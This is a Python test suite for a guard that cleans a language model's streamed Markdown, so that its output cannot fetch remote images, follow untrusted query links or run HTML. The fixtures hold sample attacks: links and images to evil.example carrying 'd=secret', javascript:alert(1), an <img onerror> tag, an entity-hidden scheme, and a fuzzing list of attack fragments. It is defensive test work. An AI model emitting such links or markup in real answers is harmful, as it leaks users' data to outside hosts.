"""The guard of the model's text: what it neutralises, what it leaves alone, wherever the stream is cut."""

import random
import re
import time
from collections.abc import Iterator
from itertools import pairwise

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from shared.domain.guard import Guard
from shared.domain.links import KnownLinks
from shared.domain.markdown_syntax import HELD_MOST_BYTES

TOOL = '{"link": "https://crm.example.com/r?id=1", "more": "see https://crm.example.com/list?a=1&amp;b=2."}'
KNOWN = KnownLinks([TOOL])


def guarded(text: str, *cuts: int, before: str = "") -> str:
    """Send the text through a guard in pieces that end at `cuts`."""
    guard = Guard(KNOWN, before)
    ends = [0, *sorted(cuts), len(text)]
    return "".join(guard.feed(text[begin:end]) for begin, end in pairwise(ends)) + guard.flush()


PLAIN = "| a | b |\n|---|---|\n| 1,2 | h (w) |\n\n- *x* [1] see: http"
CASES = {
    "a remote image": ("see ![a chart](https://evil.example/p.png?d=1) here", "see a chart here"),
    "an image by reference": ("![a chart][1]", "a chart"),
    "an inline image": ("![c](data:image/png;base64,AAAA)", "![c](data:image/png;base64,AAAA)"),
    "an https link": ("[docs](https://example.com/a)", "[docs](https://example.com/a)"),
    "a link with a title": ('[docs](https://example.com/a "the docs")', '[docs](https://example.com/a "the docs")'),
    "a mail link": ("[write](mailto:sam@example.com)", "[write](mailto:sam@example.com)"),
    "a query that a tool said": ("[r](https://crm.example.com/r?id=1)", "[r](https://crm.example.com/r?id=1)"),
    "the same with entities": (
        "[r](https://crm.example.com/list?a=1&b=2)",
        "[r](https://crm.example.com/list?a=1&b=2)",
    ),
    "a query that no tool said": ("[more](https://evil.example/c?d=secret)", "more (evil.example)"),
    "a longer query than a tool said": ("[r](https://crm.example.com/r?id=1&d=secret)", "r (crm.example.com)"),
    "http": ("[docs](http://example.com/a)", "docs"),
    "javascript": ("[x](javascript:alert(1))", "x"),
    "a scheme in entities": ("[x](java&#115;cript:alert)", "x"),
    "a relative link": ("[x](/api/sessions)", "x"),
    "a bare address": ("go to https://evil.example/c?d=secret now", "go to evil.example now"),
    "a bare address without query": ("go to https://example.com/a.", "go to https://example.com/a."),
    "a bare address that a tool said": (
        "(https://crm.example.com/r?id=1), then",
        "(https://crm.example.com/r?id=1), then",
    ),
    "an autolink": ("<https://evil.example/c?d=secret>", "evil.example"),
    "a good autolink": ("<https://example.com/a>", "<https://example.com/a>"),
    "a mail autolink": ("<sam@example.com>", "<sam@example.com>"),
    "a definition": ("[a][1]\n\n[1]: https://evil.example/c?d=1", "[a][1]\n\n[1]\\: evil.example"),
    "a good definition": ("[a][1]\n\n[1]: https://example.com/a", "[a][1]\n\n[1]: https://example.com/a"),
    "tags": ("<img src=x onerror=alert(1)><b>x</b>", "&lt;img src=x onerror=alert(1)>&lt;b>x&lt;/b>"),
    "comparisons": ("a < b, 3<4, x <- y", "a < b, 3<4, x <- y"),
    "a code span": ("use `<b>` and `[x](http://y)`", "use `<b>` and `[x](http://y)`"),
    "a code fence": (
        "```html\n<b>![x](http://y)</b>\n```\n<b>",
        "```html\n<b>![x](http://y)</b>\n```\n&lt;b>",
    ),
    "an image in a link": ("[![a](http://evil.example)](https://example.com/)", "[a](https://example.com/)"),
    "an exclamation mark": ("Wow! [x](https://example.com/) Look!", "Wow! [x](https://example.com/) Look!"),
    "plain text": (PLAIN, PLAIN),
    "an unfinished link": ("[more](https://evil.example/c?d=secret", "[more] (evil.example"),
    "another's name before the host": ("[x](https://crm.example.com@evil.example/)", "x (evil.example)"),
}


@pytest.mark.requirement("guard:neutralises")
@pytest.mark.parametrize("case", CASES)
def test_the_text_is_neutralised_as_documented(case: str) -> None:
    """One row per rule of the guardrails; the same when it comes in single characters."""
    text, expected = CASES[case]

    assert guarded(text) == expected
    assert guarded(text, *range(len(text))) == expected


def test_what_was_neutralised_is_counted() -> None:
    """For the security event, which holds no content."""
    guard = Guard(KNOWN)
    guard.feed("![a](http://x) <b> [c](http://d) [e](https://f.example/)")
    guard.flush()

    assert guard.neutralised == {"image": 1, "tag": 1, "link": 1}


PARTS = [
    "![", "[", "]", "](", "(", ")", "<", ">", "`", "``", "```", "~~~", "\n", "\n\n", "!", "\\", " ", "a", "h", "|", ":",
    "]:", '"', "'", "- ", "> ", "1. ", "    ", "https://", "http://", "http", "://", "//", "www.",
    "evil.example/?d=secret",
    "https://evil.example/x?d=secret", "http://evil.example/", "https://ok.example/", "https://crm.example.com/r?id=1",
    "javascript:alert(1)", "data:image/png;base64,AA", "data:text/html,x", "mailto:a@b.example", "img src=x",
    "<img src=x>",
    "<!--", "-->", "<script>", "&lt;", "&#58;", "[1]", "[1]: ", "\t", "é", "😀", "_", "*", "x@y.example", "?", "@",
]  # fmt: skip


def texts(seed: int, size: int) -> Iterator[str]:
    """Put parts of attacks together at random."""
    rng = random.Random(seed)
    for _ in range(size):
        yield "".join(rng.choice(PARTS) for _ in range(rng.randint(1, 24)))


@pytest.mark.requirement("guard:one-result")
def test_the_result_is_the_same_wherever_the_stream_is_cut() -> None:
    """Random texts, random cuts."""
    rng = random.Random(7)
    for text in texts(1, 1500):
        cuts = [rng.randint(0, len(text)) for _ in range(rng.randint(0, 8))]

        assert guarded(text, *cuts) == guarded(text), repr(text)


LONG_FORMS = [
    "![{}](http://x)", "[{}](http://x?y)", "[x](https://y/{}?z)", "`{}` <b>", "https://y/{}?z", "~~~{}\n<b>",
    "```\n<b>\n```{}x\n<b>\n", "<https://y/{}>", "[1]: https://y/{}?z",
]  # fmt: skip


def test_long_forms_are_the_same_wherever_the_stream_is_cut() -> None:
    """At and around the most that is held back, in one byte and in several."""
    for filler in ("a", "é", "😀", " ", "`", "?"):
        for form in LONG_FORMS:
            for length in (500, 680, 1015, 1020, 1024, 2030, 2045, 2048, 2100, 4200):
                text = form.format(filler * (length // len(filler)))
                rng = random.Random(length)
                cuts = sorted(rng.randint(0, len(text)) for _ in range(20))
                assert guarded(text, *cuts) == guarded(text), (filler, form, length)


def addresses(tokens: list[Token]) -> Iterator[tuple[str, str]]:
    """Find what a reader of Markdown would fetch, open or run."""
    for token in tokens:
        if token.type in ("html_inline", "html_block"):
            yield "html", token.content
        if token.type == "image":
            yield "image", str(token.attrs["src"])
        if token.type == "link_open":
            yield "link", str(token.attrs["href"])
        yield from addresses(token.children or [])


@pytest.mark.requirement("guard:nothing-leaves")
def test_a_reader_of_markdown_finds_nothing_to_fetch_or_run() -> None:
    """Random attacks, read by a CommonMark parser with HTML and tables on."""
    reader = MarkdownIt("commonmark", {"html": True}).enable("table")
    reader.validateLink = lambda url: True  # noqa: ARG005
    for text in texts(2, 3000):
        for kind, address in addresses(reader.parse(guarded(text))):
            plain_word = re.fullmatch(r"[\w%,;'\"()*+\-$]*", address)
            good = address.startswith("https://") and ("?" not in address or address in TOOL)
            mail = kind == "link" and address.startswith("mailto:")
            data = kind == "image" and address.startswith("data:image/")
            assert (kind == "link" and (good or plain_word)) or mail or data, (text, guarded(text), kind, address)


def test_an_open_fence_of_an_earlier_round_is_known() -> None:
    """Else the line that ends it would be taken for the beginning of code."""
    later = "\n\n```\n![x](http://evil.example/)"

    assert "![" not in guarded(later, before="Look:\n```\ncode")


@pytest.mark.requirement("guard:held")
def test_at_most_two_kilobytes_are_held_back() -> None:
    """Whatever does not end."""
    for opening in ("[", "![", "[a](https://x/", "`", "https://x/", "<https://x/", "[1]: https://x/", "```"):
        guard = Guard(KNOWN)
        given = len(guard.feed(opening))
        for count in range(1, 6000):
            given += len(guard.feed("a"))
            assert len(opening) + count - given <= HELD_MOST_BYTES + 1, opening


@pytest.mark.parametrize("part", ["[", "![a", "<", "](", "`", "https://x", "[a](https://x/", "\\", "~", "(((("])
def test_the_time_grows_with_the_length_only(part: str) -> None:
    """A hundred kilobytes of one part, in pieces of a few tokens: far below what a model needs to write them."""
    text = part * (100_000 // len(part))
    guard = Guard(KNOWN)
    begun = time.process_time()
    for at in range(0, len(text), 20):
        guard.feed(text[at : at + 20])
    guard.flush()

    assert time.process_time() - begun < 5
